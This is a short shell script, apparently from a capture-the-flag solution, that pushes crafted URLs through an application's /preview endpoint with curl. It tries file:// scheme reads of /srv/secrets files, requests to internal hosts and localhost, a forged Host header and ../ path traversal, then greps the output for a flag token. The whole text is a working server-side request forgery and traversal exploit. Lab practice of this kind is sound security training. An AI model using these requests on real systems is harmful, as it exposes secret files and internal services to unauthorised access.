#-- other schemes, other hosts, and a way out of the pages
for url in file:///srv/secrets/port http://store:8080/ http://localhost:8080/srv/secrets/flag; do
    curl -s -G http://app:8080/preview --data-urlencode "url=$url"
    curl -s -H 'Host: store' "http://app:8080/preview?url=http://app:8080/../../srv/secrets/flag"
done | grep -o 'flag{[0-9a-f]*}' || echo none
